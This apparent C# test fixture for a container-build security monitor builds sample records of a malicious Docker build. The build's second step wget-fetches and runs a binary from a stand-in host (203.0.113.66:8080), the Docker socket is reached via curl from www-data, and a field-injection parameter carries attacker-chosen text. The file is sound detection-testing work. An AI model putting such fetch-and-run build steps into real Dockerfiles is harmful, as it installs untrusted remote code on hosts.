using Google.Protobuf.WellKnownTypes;
using ImageSentinel.V1;

namespace ImageSentinel.Tests.Collector;

/// <summary>One build by somebody unexpected whose second step fetches and runs a program, with every field filled.</summary>
internal static class SampleAttack
{
    public static readonly Timestamp Start = Timestamp.FromDateTimeOffset(new DateTimeOffset(2026, 11, 22, 3, 4, 5, TimeSpan.Zero));

    /// <param name="said">Put wherever an attacker chooses the text.</param>
    public static IEnumerable<OutputRecord> Records(string said = "")
    {
        var wget = new ProcessInfo
        {
            Pid = 4711,
            Uid = 0,
            User = "root",
            Auid = uint.MaxValue,
            Exe = "/usr/bin/wget" + said,
            Args = { "wget", "-q", $"http://203.0.113.66:8080/x{said}" },
            ContainerId = "0123456789abcdef0123",
            Ancestors = { new ProcessAncestor { Pid = 4700, Exe = "/bin/sh", Command = $"/bin/sh -c wget{said}" } },
        };
        var egress = new Egress
        {
            Address = "203.0.113.66",
            Port = 8080,
            Protocol = EgressProtocol.Tcp,
            Outcome = EgressOutcome.Established,
            Path = EgressPath.Syscall,
            Novelty = Novelty.NeverSeen,
            Names = { new EgressName { Name = $"cdn.example{said}", Source = "dns" } },
            Process = wget,
            Attempts = 3,
            BytesSent = 120,
            BytesReceived = 91_234,
            Reason = "never seen in 41 builds of alpine" + said,
        };
        var coverage = new Coverage
        {
            Time = Start,
            LostEvents = 7,
            Sensors =
            {
                new SensorCoverage { Sensor = "audit", State = SensorState.Active, LostInKernel = 7 },
                new SensorCoverage { Sensor = "conntrack", State = SensorState.Degraded, Reason = "nf_conntrack_acct=0: no byte counts" },
            },
        };
        yield return new OutputRecord { Coverage = coverage };
        yield return new OutputRecord
        {
            Build = new Build
            {
                Id = $"build/1{said}",
                Builder = Builder.Buildkit,
                State = BuildState.Ended,
                Verdict = Verdict.Malicious,
                Result = BuildResult.Succeeded,
                StartTime = Start,
                EndTime = Later(9),
                EngineSocket = "/run/docker.sock",
                BaseImages = { $"docker.io/library/alpine:3.20{said}" },
                Image = new BuildImage { Id = "sha256:feedbeef0123456789", Tags = { $"shop/web:latest{said}" } },
                Clients =
                {
                    new BuildClient
                    {
                        Confidence = 0.8, Transport = "unix", Reason = "connect paired with accept4" + said,
                        Process = new ProcessInfo { Pid = 900, Uid = 33, User = "www-data" + said, Exe = "/usr/bin/curl", Args = { "curl", "--unix-socket", "/run/docker.sock" } },
                    },
                },
                Steps =
                {
                    new BuildStep { Id = "s1", Index = 1, Total = 2, Kind = StepKind.Run, Instruction = "RUN apk add curl", Cached = true },
                    new BuildStep
                    {
                        Id = "s2", Index = 2, Total = 2, Kind = StepKind.Run, Instruction = $"RUN wget -q http://203.0.113.66:8080/x{said}", StartTime = Later(2), EndTime = Later(5),
                        ExitCode = 0, Network = StepNetwork.Bridge, Egress = { egress },
                        Files = { new FileArtifact { Path = $"/usr/local/bin/x{said}", Size = 91_000, Sha256 = new string('a', 64), Kind = FileKind.Elf, Executed = true } },
                    },
                },
                DaemonFetches = { new DaemonFetch { Kind = "pull", What = $"docker.io/library/alpine:3.20{said}", Digest = "sha256:beef" } },
                Coverage = coverage,
                Notes = { "the Dockerfile was read from the client's request" + said },
                FindingUids = { $"f/1{said}" },
            },
        };
        yield return new OutputRecord
        {
            Finding = new Finding
            {
                Uid = $"f/1{said}",
                Activity = Activity.Create,
                Detector = "downloaded-executable",
                Title = "Build step fetched and ran a program" + said,
                Message = $"Step 2 of 2 of shop/web:latest fetched /usr/local/bin/x from 203.0.113.66:8080, never seen before, and ran it{said}.",
                Severity = Severity.Critical,
                Confidence = 0.95,
                BuildId = $"build/1{said}",
                StepId = "s2",
                ImageId = "sha256:feedbeef0123456789",
                Time = Later(6),
                StartTime = Later(3),
                EndTime = Later(5),
                Techniques = { new Technique { TechniqueId = "T1612", TechniqueName = "Build Image on Host", TacticId = "TA0005", TacticName = "Stealth", AttackVersion = "20.0" } },
                Evidence = { new Evidence { Time = Later(3), Summary = "wget connected to 203.0.113.66:8080" + said, Egress = egress, Process = wget } },
                Coverage = coverage,
                NextSteps = { "docker image rm shop/web:latest" + said },
            },
        };
    }

    public static async Task SendAsync(AgentStream agent, string said = "")
    {
        await agent.SayAsync(AgentStream.Hello());
        ulong sequence = 0;
        await agent.SayAsync([.. Records(said).Select(record => new SpooledRecord { Sequence = ++sequence, Record = record })]);
    }

    private static Timestamp Later(int seconds) => new() { Seconds = Start.Seconds + seconds };
}
